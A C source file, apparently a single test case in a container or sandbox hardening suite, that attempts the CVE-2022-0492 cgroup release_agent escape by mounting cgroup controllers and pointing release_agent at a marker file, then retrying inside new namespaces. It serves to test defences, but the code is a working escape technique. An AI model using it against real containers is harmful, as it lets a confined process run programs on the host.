// Tries: to make the kernel start a program on the host when a cgroup becomes empty (CVE-2022-0492).
// With: check, check 08, run, program
#include "attack.h"

ATTACK(sets_a_release_agent) {
  if (fork()) {
    wait(0);
    return;
  }
  static const char *const kinds[] = {"memory", "pids", "cpu", "freezer", "devices", "blkio", "cpuset", "rdma", "misc"};
  mkdir("/tmp/agent", 0755);
  for (int round = 0; round < 2; round++) {
    for (unsigned i = 0; i < sizeof kinds / sizeof *kinds; i++) {
      if (mount("cgroup", "/tmp/agent", "cgroup", 0, kinds[i])) continue;
      write_to("/tmp/agent/release_agent", "/tmp/" MARK);
      umount2("/tmp/agent", MNT_DETACH);
    }
    for (unsigned i = 0; i < sizeof kinds / sizeof *kinds; i++) {
      char path[128];
      snprintf(path, sizeof path, "/sys/fs/cgroup/%s/release_agent", kinds[i]);
      write_to(path, "/tmp/" MARK);
    }
    become_root_of(CLONE_NEWNS | CLONE_NEWCGROUP);
  }
  _exit(0);
}
